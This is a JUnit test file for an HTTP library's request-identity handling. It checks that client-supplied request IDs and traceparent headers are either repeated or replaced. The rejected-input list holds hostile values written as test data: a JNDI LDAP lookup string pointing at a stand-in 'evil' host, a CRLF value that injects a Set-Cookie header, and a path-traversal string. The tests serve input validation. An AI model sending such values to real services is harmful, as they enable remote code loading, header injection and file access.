package dev.weir.http;

import static org.assertj.core.api.Assertions.assertThat;

import io.netty.handler.codec.http.HttpHeaders;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Under which names a request is found again. */
class IdentityTest {

  private static final String TRACE = "0af7651916cd43dd8448eb211c80319c";
  private static final String TRACEPARENT = "00-" + TRACE + "-b7ad6b7169203331-00";

  private final HttpHeaders headers = Fields.create();

  @ParameterizedTest
  @ValueSource(strings = {"a", "A-Z_a.z-0.9", "..", "0123456789"})
  void repeatsTheClientsRequestId(String id) {
    headers.set(Fields.X_REQUEST_ID, id);

    assertThat(Identity.of(headers).requestId()).isEqualTo(id);
  }

  @Test
  void repeatsARequestIdOfUpTo128Characters() {
    headers.set(Fields.X_REQUEST_ID, "a".repeat(128));

    assertThat(Identity.of(headers).requestId()).hasSize(128);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        " ",
        "a b",
        "a,b",
        "../../etc",
        "${jndi:ldap://evil/a}",
        "a\r\nSet-Cookie: b",
        "a\u0000",
        "a\"b",
        "<b>",
        "%41",
        "\u00e9",
        "\u0661",
      })
  void makesANewRequestIdOfOneThatIsNotFitToRepeat(String id) {
    headers.set(Fields.X_REQUEST_ID, id);

    assertThat(Identity.of(headers).requestId()).matches("[0-9a-f]{32}");
  }

  @Test
  void makesANewRequestIdOfOneThatIsTooLong() {
    headers.set(Fields.X_REQUEST_ID, "a".repeat(129));
    assertThat(Identity.of(headers).requestId()).matches("[0-9a-f]{32}");

    headers.set(Fields.X_REQUEST_ID, "a".repeat(10_000));
    assertThat(Identity.of(headers).requestId()).matches("[0-9a-f]{32}");
  }

  @Test
  void makesANewRequestIdIfThereIsNone() {
    assertThat(Identity.of(headers).requestId())
        .matches("[0-9a-f]{32}")
        .isNotEqualTo(Identity.of(headers).requestId());
  }

  @Test
  void continuesTheClientsTrace() {
    headers.set(Fields.TRACEPARENT, TRACEPARENT);

    Identity identity = Identity.of(headers);

    assertThat(identity.isTraceContinued()).isTrue();
    assertThat(identity.trace().traceId()).isEqualTo(TRACE);
    assertThat(identity.trace().spanId()).isNotEqualTo("b7ad6b7169203331");
    assertThat(identity.trace().flags()).isEqualTo("00");
  }

  @Test
  void startsATraceIfThereIsNoneToContinue() {
    Identity identity = Identity.of(headers);

    assertThat(identity.isTraceContinued()).isFalse();
    assertThat(identity.trace().traceId()).matches("[0-9a-f]{32}");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "junk", "00-" + TRACE + "-0000000000000000-01"})
  void startsATraceIfTheClientsIsBroken(String traceparent) {
    headers.set(Fields.TRACEPARENT, traceparent);

    Identity identity = Identity.of(headers);

    assertThat(identity.isTraceContinued()).isFalse();
    assertThat(identity.trace().traceId()).isNotEqualTo(TRACE);
  }

  @Test
  void startsATraceIfTheClientGivesTwo() {
    headers.set(Fields.TRACEPARENT, List.of(TRACEPARENT, TRACEPARENT));

    assertThat(Identity.of(headers).isTraceContinued()).isFalse();
  }

  @Test
  void startsATraceIfTwoAreJoinedInOneField() {
    headers.set(Fields.TRACEPARENT, TRACEPARENT + ", " + TRACEPARENT);

    assertThat(Identity.of(headers).isTraceContinued()).isFalse();
  }
}
